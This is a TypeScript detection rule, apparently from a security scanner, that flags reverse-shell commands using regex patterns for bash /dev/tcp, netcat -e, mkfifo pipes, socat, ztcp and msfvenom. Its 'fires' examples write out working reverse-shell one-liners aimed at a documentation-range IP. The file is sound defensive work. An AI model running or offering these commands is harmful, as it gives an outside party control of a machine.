import type { Rule } from '../../rule.js';

export const rule: Rule = {
  pattern: 'reverse_shell',
  variant: 'command',
  threat: 'INJECTION',
  direction: 'inbound',
  severity: 'critical',
  confidence: 'high',
  group: 'commands',
  about: 'A shell is connected to a remote host, or offered on a port: from there on somebody else types.',
  anatomy: 'the network pseudo-devices of bash, or a network tool that is given a shell to run or a pipe to one',
  source: 'https://attack.mitre.org/techniques/T1059/004/ and https://www.revshells.com',
  match: [
    { re: /\/dev\/(?:tcp|udp)\/["']?[\w.$[\]{}:-]{1,120}["']?\/["']?[\w${}]{1,20}/ },
    {
      re: /(?<![\w-])(?:nc|ncat|netcat|nc\.(?:exe|openbsd|traditional)|ncat\.exe|rcat|rustcat)\s[^\n|;&]*(?:-\w*[ec]|--exec|--sh-exec|-s)\s*["'=]?\s*(?:\/[\w./-]*\/)?(?:(?:ba|z|k|da|a|c)?sh|cmd|powershell|pwsh)(?![\w-])/,
      window: 300,
    },
    { re: /mkfifo\s+\S[^\n]*[^\w-](?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\s/, window: 400 },
    { re: /mknod\s+\S+\s+p[^\n]*[^\w-](?:nc|ncat|telnet)\s/, window: 400 },
    { re: /(?<![\w-])socat\s[^\n]*(?:exec|system):\s*["'\\]*[^\n,;|]*(?:sh|cmd|powershell)/i, window: 400 },
    { re: /(?<![\w-])ztcp\s+(?:-\w+\s+)*[\w.$-]+\s+[\d$]/ },
    {
      re: /(?<![\w-])telnet\s[^\n|]*\|\s*(?:\/[\w./-]*\/)?(?:ba|z|k|da)?sh\s*(?:-i\s*)?\|\s*telnet/,
      window: 300,
    },
    { re: /\/inet\/(?:tcp|udp)\/0\/[\w."$-]{1,80}\/["\d$]/ },
    { re: /(?<![\w-])xterm\s+-display\s+[\w.]+:\d/ },
    { re: /(?<![\w-])msfvenom\s[^\n]*-p\s+\w[\w/]*(?:reverse|bind|meterpreter)/, window: 200 },
  ],
  examples: {
    fires: [
      'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      'exec 5<>/dev/tcp/$RHOST/$RPORT',
      'nc 203.0.113.7 4444 -e /bin/sh',
      'busybox nc 203.0.113.7 4444 -e bash',
      'nc -c /bin/bash 203.0.113.7 4444',
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc 203.0.113.7 4444 >/tmp/f',
      "socat TCP:203.0.113.7:4444 EXEC:'/bin/bash',pty,stderr,setsid",
      "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY'",
    ],
    silent: [
      'nc -zv host.example 443',
      'mkfifo {{path/to/pipe}}',
      'echo hello | nc -w 1 host 9',
      '/dev/tty',
      'socat TCP-LISTEN:8080,fork TCP:localhost:80',
      'rsync -e ssh a b:',
    ],
  },
};
